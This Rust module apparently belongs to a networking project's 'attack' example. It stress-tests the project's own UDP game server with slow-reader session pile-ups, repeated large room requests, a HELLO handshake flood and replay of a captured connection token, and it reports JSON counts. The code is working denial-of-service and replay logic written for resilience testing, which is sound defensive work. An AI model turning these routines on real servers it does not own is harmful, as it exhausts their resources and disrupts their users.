//! The attacks of issue 19 (one address, or many, against every other player), for the
//! `attack` example: a module of it (`super` is the example), sharing its raw sessions.

use super::*;

/// Sends `frames` with an acknowledgement of everything received and a grant of `bytes`
/// more credit than the server has sent: a peer that takes a trickle to keep its queue alive.
async fn trickle(r: &mut Raw, bytes: u64) {
    r.drain(false).await;
    let mut frames = Vec::new();
    r.peer.ack(&mut frames);
    r.peer.forget_received();
    r.peer.grant_more(&mut frames, bytes);
    r.send(&frames).await;
}

/// Keeps `sessions` alive for `secs` seconds, each taking `bytes` every half second.
async fn trickle_for(sessions: &mut [Raw], bytes: u64, secs: u64) {
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(secs) {
        for r in sessions.iter_mut().filter(|r| r.closed.is_none()) {
            trickle(r, bytes).await;
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    for r in sessions.iter_mut() {
        r.drain(false).await;
    }
}

/// `conns` sessions from one address, each granting a small window, send `count` `WATCH`
/// frames each (within the server's credit, as it grants it; a topology push answers each,
/// unless deduplicated), then take a few hundred bytes every half second for `secs` seconds.
pub(super) async fn watch(
    target: SocketAddr,
    ip: IpAddr,
    conns: usize,
    count: u64,
    secs: u64,
) -> String {
    let mut sessions = Vec::new();
    for _ in 0..conns {
        if let Ok(r) = connect(target, ip, 2000).await {
            sessions.push(r);
        }
    }
    let mut watch = Vec::new();
    rpc::encode_watch(&mut watch, true);
    let mut sent = 0u64;
    for r in &mut sessions {
        let mut frames = Vec::new();
        for _ in 0..count {
            let mut waited = 0;
            while !r.peer.charge(watch.len()) {
                if !frames.is_empty() {
                    let f = std::mem::take(&mut frames);
                    r.send(&f).await;
                }
                trickle(r, 300).await;
                tokio::time::sleep(Duration::from_millis(5)).await;
                waited += 1;
                if waited > 2000 || r.closed.is_some() {
                    break;
                }
            }
            if frames.len() + watch.len() + 8 > DATAGRAM - 16 {
                let f = std::mem::take(&mut frames);
                r.send(&f).await;
            }
            let seq = r.seq[0];
            r.seq[0] += 1;
            RawPeer::message(&mut frames, Class::ReliableOrdered, 0, seq, None, &watch);
            sent += 1;
        }
        r.send(&frames).await;
        r.drain(false).await;
    }
    trickle_for(&mut sessions, 300, secs).await;
    finish("watch", &sessions, &format!(",\"watch_frames\":{sent}"))
}

/// `conns` sessions from one address each ask a full room (its ~1 MB of lines) `asks` times,
/// then take a few hundred bytes every half second for `secs` seconds: answers pile up.
pub(super) async fn answers(
    target: SocketAddr,
    ip: IpAddr,
    conns: usize,
    asks: usize,
    secs: u64,
) -> String {
    let mut filler = connect(target, ip, 1 << 20).await.expect("connect");
    fill_room(&mut filler).await;
    let mut sessions = Vec::new();
    for _ in 0..conns {
        if let Ok(r) = connect(target, ip, 1100 << 10).await {
            sessions.push(r);
        }
    }
    for r in &mut sessions {
        let ms: Vec<Vec<u8>> =
            (0..asks).map(|_| r.request("Room", "recent", GrainKey::Int(0), &[])).collect();
        for m in &ms {
            let seq = r.seq[256];
            r.seq[256] += 1;
            let mut frames = Vec::new();
            RawPeer::message(&mut frames, Class::ReliableUnordered, 0, seq, None, m);
            r.send(&frames).await;
        }
    }
    trickle_for(&mut sessions, 300, secs).await;
    finish("answers", &sessions, &format!(",\"requests\":{}", asks * sessions.len()))
}

/// `HELLO`s at `rate` per second for `secs` seconds from `ports` sockets of `--bind`'s address
/// (in the scripts, the probe's own address: as a spoofer who knows a victim's address, not its
/// port, would send them). Counts the answers.
pub(super) async fn hello_flood(
    target: SocketAddr,
    ip: IpAddr,
    ports: usize,
    rate: u64,
    secs: u64,
) -> String {
    use grainwire::proto::wire::Handshake;
    let mut socks = Vec::with_capacity(ports);
    for _ in 0..ports {
        let s = UdpSocket::bind(SocketAddr::new(ip, 0)).await.expect("bind");
        s.connect(target).await.expect("connect");
        socks.push(s);
    }
    let start = Instant::now();
    let (mut sent, mut answered) = (0u64, 0u64);
    let mut buf = vec![0u8; 2048];
    let tick = Duration::from_millis(10);
    let per_tick = (rate / 100).max(1);
    while start.elapsed() < Duration::from_secs(secs) {
        for _ in 0..per_tick {
            let mut hello = Vec::new();
            wire::encode_handshake(&mut hello, &Handshake::Hello { nonce: rand_nonce() });
            let _ = socks[(sent % ports as u64) as usize].send(&hello).await;
            sent += 1;
        }
        for s in &socks {
            while s.try_recv(&mut buf).is_ok() {
                answered += 1;
            }
        }
        tokio::time::sleep(tick).await;
    }
    format!(
        "{{\"attack\":\"hello-flood\",\"sent\":{sent},\"answered\":{answered},\"ports\":{ports}}}"
    )
}

/// An eavesdropper who saw a player's `CONNECT` (the sealed token in `token_file`, not its
/// secrets) presents it from `conns` ports of `--bind`'s address, again every second for `secs`
/// seconds. Counts the sessions the server opened for it (it cannot use them).
pub(super) async fn steal(
    target: SocketAddr,
    ip: IpAddr,
    token_file: &std::path::Path,
    conns: usize,
    secs: u64,
) -> String {
    let text = std::fs::read_to_string(token_file)
        .unwrap_or_else(|e| fail(&format!("--token-file {}: {e}", token_file.display())));
    let mut token = grainwire::auth::PlayerToken::from_hex(&text)
        .unwrap_or_else(|e| fail(&format!("--token-file: {e}")));
    // What is on the wire: the sealed part only. The secrets are not.
    token.secrets =
        grainwire::proto::crypt::Secrets { client_to_server: [0; 32], server_to_client: [0; 32] };
    let token = std::sync::Arc::new(token);
    let start = Instant::now();
    let (mut attempts, mut accepted) = (0u64, 0u64);
    let mut buf = vec![0u8; 2048];
    while start.elapsed() < Duration::from_secs(secs) {
        for _ in 0..conns {
            let sock = UdpSocket::bind(SocketAddr::new(ip, 0)).await.expect("bind");
            sock.connect(target).await.expect("connect");
            let mut peer = RawPeer::new(rand_nonce(), 1 << 20).with_token(token.clone());
            attempts += 1;
            let _ = sock.send(&peer.hello()).await;
            let Ok(Ok(n)) =
                tokio::time::timeout(Duration::from_millis(200), sock.recv(&mut buf)).await
            else {
                continue;
            };
            let RawEvent::Reply(connect) = peer.on_datagram(&buf[..n]) else { continue };
            let _ = sock.send(&connect).await;
            // An ACCEPT (whose proof we cannot check: we lack the secrets) means a session.
            if let Ok(Ok(n)) =
                tokio::time::timeout(Duration::from_millis(200), sock.recv(&mut buf)).await
                && let Ok(wire::Packet::Handshake(h)) = wire::decode_packet(&buf[..n])
                && matches!(h.body, wire::Handshake::Accept { .. })
            {
                accepted += 1;
            }
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    format!("{{\"attack\":\"steal\",\"attempts\":{attempts},\"accepted\":{accepted}}}")
}

/// One JSON line for attacks made of many sessions: what they sent and how many are still open.
fn finish(attack: &str, sessions: &[Raw], extra: &str) -> String {
    let sent: u64 = sessions.iter().map(|r| r.sent).sum();
    let open = sessions.iter().filter(|r| r.closed.is_none()).count();
    let closed: BTreeMap<String, usize> =
        sessions.iter().filter_map(|r| r.closed.clone()).fold(BTreeMap::new(), |mut m, c| {
            *m.entry(c).or_default() += 1;
            m
        });
    let closed: Vec<String> = closed.iter().map(|(k, n)| format!("\"{k}\":{n}")).collect();
    format!(
        "{{\"attack\":\"{attack}\",\"sessions\":{},\"open_at_end\":{open},\"closed\":{{{}}},\"datagrams\":{sent}{extra}}}",
        sessions.len(),
        closed.join(",")
    )
}
